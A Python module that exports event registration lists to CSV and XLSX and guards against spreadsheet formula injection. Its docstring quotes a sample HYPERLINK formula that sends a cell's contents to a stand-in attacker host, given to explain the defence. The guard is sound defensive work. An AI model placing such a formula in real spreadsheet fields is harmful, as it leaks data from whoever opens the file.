"""Registration lists as CSV and XLSX files, for spreadsheets, mail merges and the funder's records.

Columns are machine-readable and stable (the same names as the import's where they overlap): enum
values rather than translated labels, ISO 3166 country codes, times in ISO 8601 UTC.

Spreadsheets run formulas, and names and job titles are typed by the public: a "name" such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would run in the organiser's Excel. In CSV every
text cell that starts with ``= + - @`` (or a tab or carriage return) gets a leading apostrophe, as
OWASP advises; a phone number "+212 …" then shows as "'+212 …", the price of safety. XLSX cells are
typed: text is stored as text, never as a formula, so it needs no apostrophe and keeps its value.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from move_events.registration.models import Registration

COLUMNS = (
    "id", "status", "role", "given_name", "family_name", "email", "phone", "job_title",
    "organisation", "organisation_kind", "country", "registered_at", "checked_in_at",
)  # fmt: skip
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_ISO_UTC = "%Y-%m-%dT%H:%M:%SZ"
_XLSX_DATETIME_FORMAT = 'yyyy-mm-dd"T"hh:mm:ss"Z"'
_XLSX_WIDTHS = {"email": 32, "organisation": 30, "registered_at": 21, "checked_in_at": 21, "job_title": 24}

Value = str | int | datetime | None


def _utc(value: datetime | None) -> datetime | None:
    return value.astimezone(UTC) if value is not None else None


def export_rows(registrations: Iterable[Registration]) -> Iterator[tuple[Value, ...]]:
    """One tuple per registration, in the order of COLUMNS, with typed values (times aware, UTC)."""
    for registration in registrations:
        person = registration.person
        organisation = person.organisation
        yield (
            registration.id,
            registration.status.value,
            registration.role.value,
            person.given_name,
            person.family_name,
            person.email,
            person.phone,
            person.job_title,
            organisation.name if organisation else "",
            organisation.kind.value if organisation else "",
            organisation.country if organisation else "",
            _utc(registration.created_at),
            _utc(registration.checked_in_at),
        )


def neutralise_formula(text: str) -> str:
    """A text cell that a spreadsheet will show, not run."""
    return f"'{text}" if text.startswith(_FORMULA_STARTS) else text


def csv_cell(value: Value) -> str | int:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime(_ISO_UTC)
    if isinstance(value, int):
        return value
    return neutralise_formula(value)


def registrations_csv(registrations: Iterable[Registration]) -> bytes:
    """UTF-8 with a byte-order mark: without it Excel reads accents, Cyrillic and Arabic as mojibake."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    writer.writerows([csv_cell(value) for value in row] for row in export_rows(registrations))
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_cell(sheet, value: Value) -> WriteOnlyCell:
    if isinstance(value, datetime):
        cell = WriteOnlyCell(sheet, value=value.replace(tzinfo=None, microsecond=0))  # no time zones: UTC
        cell.number_format = _XLSX_DATETIME_FORMAT
        return cell
    if isinstance(value, str):
        # Control characters are not allowed in XML; text is typed as text (never a formula).
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"
        return cell
    return WriteOnlyCell(sheet, value=value)


def registrations_xlsx(registrations: Iterable[Registration], *, sheet_title: str = "Registrations") -> bytes:
    """One sheet, a bold frozen header row, filters on; times as real dates (UTC) that sort."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title[:31])
    sheet.freeze_panes = "A2"
    for index, name in enumerate(COLUMNS):
        sheet.column_dimensions[chr(ord("A") + index)].width = _XLSX_WIDTHS.get(name, 14)
    header = []
    for name in COLUMNS:
        cell = WriteOnlyCell(sheet, value=name)
        cell.font = Font(bold=True)
        header.append(cell)
    sheet.append(header)
    rows = 0
    for row in export_rows(registrations):
        sheet.append([xlsx_cell(sheet, value) for value in row])
        rows += 1
    sheet.auto_filter.ref = f"A1:{chr(ord('A') + len(COLUMNS) - 1)}{rows + 1}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
